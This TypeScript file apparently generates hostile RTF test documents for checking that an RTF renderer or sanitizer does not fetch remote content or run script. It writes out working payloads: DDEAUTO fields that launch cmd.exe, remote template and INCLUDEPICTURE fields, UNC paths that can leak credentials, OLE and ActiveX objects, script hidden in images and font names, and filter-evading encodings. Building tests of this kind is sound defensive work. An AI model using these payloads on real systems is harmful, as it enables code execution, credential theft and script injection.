/** Hostile RTF of its own: fields, objects, templates, shapes, pictures, fonts and markup in every place that holds text. */
import { references, SCRIPT } from "./kit";

/** One hostile body. */
export interface BodyVector {
  readonly name: string;
  readonly body: string;
}

/** A text as it can stand in RTF. */
const literal = (text: string): string => text.replace(/[\\{}]/g, "\\$&");
const hex = (text: string): string =>
  Array.from(text, (char) => (char.codePointAt(0) ?? 0).toString(16).padStart(2, "0")).join("");
const hexEscapes = (text: string): string =>
  Array.from(text, (char) => `\\'${(char.codePointAt(0) ?? 0).toString(16).padStart(2, "0")}`).join("");
const unicodeEscapes = (text: string): string =>
  Array.from(text, (char) => `\\u${char.codePointAt(0) ?? 0}?`).join("");

const HEAD = String.raw`\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0 Arial;}}{\colortbl;\red255\green0\blue0;}\f0 `;
const document = (content: string): string => `{${HEAD}${content}\\par}`;

/** Fields that fetch, call or lead somewhere; `@` is the address. */
const FIELDS = [
  ...[
    'HYPERLINK "@"',
    "HYPERLINK @",
    'HYPERLINK \\\\l "@"',
    'HYPERLINK "@" \\\\o "<img src=@>" \\\\t "_top"',
  ],
  ...['INCLUDEPICTURE "@" \\\\d', 'INCLUDEPICTURE "@" MERGEFORMATINET', 'INCLUDETEXT "@"', 'IMPORT "@"'],
  ...[
    'LINK Excel.Sheet.8 "@" "R1C1" \\\\a \\\\p',
    'EMBED Package "@"',
    'RD "@"',
    'DATABASE \\\\d "@" \\\\c "x"',
  ],
  ...[
    'DDEAUTO c:\\\\\\\\windows\\\\\\\\cmd.exe "/c @"',
    'DDE excel "@"',
    'MACROBUTTON run "@"',
    'AUTOTEXT "@"',
  ],
  ...[
    'HTMLCONTROL "@"',
    'CONTROL Forms.HTML:Image.1 "@"',
    'QUOTE "@"',
    "SET x @",
    'ADDIN "@"',
    'BARCODE "@"',
  ],
];

const target = {
  web: (server: URL) => `${server.href}hit`,
  file: ({ host }: URL) => `\\\\\\\\${host}\\\\share\\\\a.png`,
  "file:": ({ host }: URL) => `file://${host}/share/a.png`,
  script: () => `javascript:${SCRIPT}`,
  "script in parts": () => `java\\'09script:${SCRIPT}`,
} as const;

const field = (instruction: string, result: string): string =>
  `{\\field\\flddirty{\\*\\fldinst{ ${instruction} }}{\\fldrslt{${result}}}}`;

/** Places in which a text of the file is kept; what is in them must never be markup. */
const TEXT_PLACES: readonly (readonly [string, (text: string) => string])[] = [
  ["text", (text) => text],
  ["hidden text", (text) => `{\\v ${text}}`],
  [
    "bullet",
    (text) => `{\\pntext\\f0 ${text}\\tab}{\\*\\pn\\pnlvlbody{\\pntxtb ${text}}{\\pntxta ${text}}}x`,
  ],
  ["list number", (text) => `{\\listtext ${text}\\tab}x`],
  ["result of a field", (text) => field('HYPERLINK "https://example.org"', text)],
  ["table cell", (text) => `\\trowd\\cellx2000\\cellx4000\\intbl ${text}\\cell ${text}\\cell\\row`],
  ["note", (text) => `x{\\footnote ${text}}{\\header ${text}}{\\annotation ${text}}`],
  ["bookmark", (text) => `{\\*\\bkmkstart ${text}}x{\\*\\bkmkend ${text}}`],
  ["information", (text) => `{\\info{\\title ${text}}{\\*\\company ${text}}}{\\*\\generator ${text};}x`],
  ["style sheet", (text) => `{\\stylesheet{\\s0 ${text};}{\\*\\cs1 ${text};}}\\s0\\cs1 x`],
  ["unknown destination", (text) => `{\\*\\nobodyknows ${text}}{\\nobodyknows ${text}}x`],
  [
    "HTML tag outside of HTML",
    (text) => `{\\*\\htmltag64 ${text}}\\htmlrtf ${text}\\htmlrtf0 x{\\*\\mhtmltag ${text}}`,
  ],
  ["object", (text) => `{\\object\\objhtml{\\*\\objclass ${text}}{\\*\\objname ${text}}{\\result ${text}}}`],
];

const WRITTEN: readonly (readonly [string, (text: string) => string])[] = [
  ["plain", literal],
  ["in hexadecimal", hexEscapes],
  ["as Unicode", unicodeEscapes],
  ["in references", references],
];

/** Whole files. */
const FILES: readonly (readonly [string, (url: string, unc: string) => string])[] = [
  ["template", (url) => `{${HEAD}{\\*\\template ${url}}x\\par}`],
  ["template on a file server", (_, unc) => `{${HEAD}{\\*\\template ${unc}}{\\*\\nextfile ${unc}}x\\par}`],
  ["file table", (_, unc) => `{${HEAD}{\\filetbl{\\file\\fid1\\fnetwork ${unc}}}{\\subdocument1}x\\par}`],
  [
    "XML and data",
    (url) =>
      `{${HEAD}{\\*\\xmlnstbl{\\xmlns1 ${url};}}{\\*\\datastore ${hex(`<x src="${url}"/>`)}}{\\*\\xmlopen ${url}}x\\par}`,
  ],
  ["mail merge", (url) => `{${HEAD}{\\*\\mailmerge{\\*\\mmconnectstr ${url}}{\\mmdatasource ${url}}}x\\par}`],
  [
    "user properties",
    (url) =>
      `{${HEAD}{\\*\\userprops{\\propname a}\\proptype30{\\staticval ${url}}{\\linkval ${url}}}x\\par}`,
  ],
  [
    "shape",
    (url) =>
      document(
        `{\\shp{\\*\\shpinst{\\sp{\\sn pib}{\\sv ${url}}}{\\sp{\\sn pibName}{\\sv ${url}}}{\\sp{\\sn pihlShape}{\\sv {\\*\\hl{\\hlfr x}{\\hlsrc ${url}}}}}{\\shptxt ${literal(`<img src=${url}>`)}}}}`,
      ),
  ],
  [
    "background",
    (url) =>
      `{${HEAD}\\viewbksp1{\\*\\background{\\shp{\\*\\shpinst{\\sp{\\sn fillBlip}{\\sv ${url}}}{\\sp{\\sn fillBlipName}{\\sv ${url}}}}}}x\\par}`,
  ],
  [
    "drawing",
    (url) =>
      document(
        `{\\do\\dobxpage{\\dptxbx{\\dptxbxtext ${literal(`<img src="${url}">`)}}}}{\\nonshppict{\\pict ${url}}}`,
      ),
  ],
  [
    "SVG as PNG",
    (url) =>
      document(
        `{\\pict\\pngblip ${hex(`<svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT}"><image href="${url}"/></svg>`)}}`,
      ),
  ],
  [
    "HTML as JPEG",
    (url) => document(`{\\pict\\jpegblip ${hex(`"><img src=${url} onerror=${SCRIPT}><x "`)}}`),
  ],
  [
    "metafile",
    (url) =>
      document(`{\\*\\shppict{\\pict\\wmetafile8\\picw9\\pich9 ${hex(url)}}}{\\pict\\emfblip ${hex(url)}}`),
  ],
  [
    "picture of raw bytes",
    (url) => {
      const bytes = `<svg onload=${SCRIPT}><image href="${url}">`;
      return document(`{\\pict\\pngblip\\bin${bytes.length} ${bytes}}`);
    },
  ],
  [
    "picture as wide as numbers go",
    () => document("{\\pict\\pngblip\\picwgoal2147483647\\pichgoal-2147483648\\picscalex999999999 00}"),
  ],
  [
    "linked object",
    (url) =>
      document(
        `{\\object\\objautlink\\objupdate\\rsltpict{\\*\\objclass htmlfile}{\\*\\objdata ${hex(url)}}{\\result x}}`,
      ),
  ],
  [
    "OLE package",
    (url) =>
      document(
        `{\\object\\objemb{\\*\\oleclsid \\'7bF20DA720-C02F-11CE-927B-0800095AE340\\'7d}{\\*\\objdata 0105000002000000080000005061636b61676500${hex(url)}}}`,
      ),
  ],
  [
    "ActiveX",
    (url) =>
      document(
        `{\\object\\objocx{\\*\\objclass Shell.Explorer.2}{\\*\\objdata ${hex(url)}}{\\result{\\pict\\wmetafile8 ${hex(url)}}}}`,
      ),
  ],
  [
    "font name with a declaration",
    (url) =>
      `{\\rtf1\\ansi{\\fonttbl{\\f0 x'; background: url(${url}); x: ';}{\\f1 x\\'22 onload=\\'22${SCRIPT};}}\\f0 a\\f1 b\\par}`,
  ],
  [
    "font name with markup",
    (url) => `{\\rtf1\\ansi{\\fonttbl{\\f0 </style><img src=${url} onerror=${SCRIPT}>;}}\\f0 a\\par}`,
  ],
  [
    "font file",
    (url) =>
      `{\\rtf1\\ansi{\\fonttbl{\\f0\\fnil{\\*\\fontemb\\ftruetype{\\*\\fontfile ${url}}}f;}}\\f0 a\\par}`,
  ],
  [
    "colours with text",
    (url) =>
      `{\\rtf1\\ansi{\\colortbl;\\red255 url(${url});</style><img src=${url}>;}\\cf1\\cb2\\highlight2 a\\par}`,
  ],
  [
    "numbers beyond all bounds",
    () => document("\\fs2147483647\\li-2147483648\\ri999999999\\fi-99999999\\cf99999\\f99999\\up99999 x"),
  ],
  [
    "HTML that begins late",
    (url) =>
      `{\\rtf1\\ansi{\\fonttbl{\\f0 A;}}\\pard x\\fromhtml1{\\*\\htmltag64 <img src="${url}" onerror="${SCRIPT}">}\\par}`,
  ],
  [
    "HTML that is none",
    (url) =>
      `{\\rtf1\\ansi\\fromhtml0{\\*\\htmltag64 <img src="${url}">}{\\*\\htmltag84 <script>${SCRIPT}</script>}x\\par}`,
  ],
  [
    "text that is HTML",
    (url) =>
      `{\\rtf1\\ansi\\fromtext{\\fonttbl{\\f0 A;}}\\f0 <script>${SCRIPT}</script><img src="${url}">\\par}`,
  ],
  [
    "HTML in parts",
    (url) =>
      `{\\rtf1\\ansi\\fromhtml1{\\fonttbl{\\f0 A;}}{\\*\\htmltag64 <im}{\\*\\htmltag64 g src="}{\\*\\htmltag64 ${url}" oner}{\\*\\htmltag84 ror="${SCRIPT}">}\\htmlrtf <script>\\htmlrtf0 x}`,
  ],
  [
    "HTML whose text is markup",
    (url) =>
      `{\\rtf1\\ansi\\fromhtml1{\\fonttbl{\\f0 A;}}{\\*\\htmltag64 <p>}\\'3cimg src=${url} onerror=${SCRIPT}\\'3e\\u60?script\\u62?${SCRIPT}\\u60?/script\\u62?{\\*\\htmltag72 </p>}}`,
  ],
  [
    "HTML of another message",
    (url) =>
      `{\\rtf1\\ansi\\fromhtml1{\\*\\mhtmltag64 <img src="${url}">}{\\*\\htmltag64 <p>}x{\\*\\htmltag84 &nbsp;}}`,
  ],
];

/** Every hostile RTF, against one server. */
export function rtfVectors(server: URL): readonly BodyVector[] {
  const markup = `<img src="${server.href}hit" onerror="${SCRIPT}"><script>${SCRIPT}</script>`;
  const [url, unc] = [target.web(server), target.file(server)];
  return [
    ...FIELDS.flatMap((instruction) =>
      Object.entries(target).map(([name, address]) => ({
        name: `field: ${instruction.slice(0, 20)}, ${name}`,
        body: document(field(instruction.replaceAll("@", address(server)), "shown")),
      })),
    ),
    ...TEXT_PLACES.flatMap(([place, put]) =>
      WRITTEN.map(([how, write]) => ({
        name: `markup: ${place}, ${how}`,
        body: document(put(write(markup))),
      })),
    ),
    ...FILES.map(([name, write]) => ({ name: `file: ${name}`, body: write(url, unc) })),
  ];
}
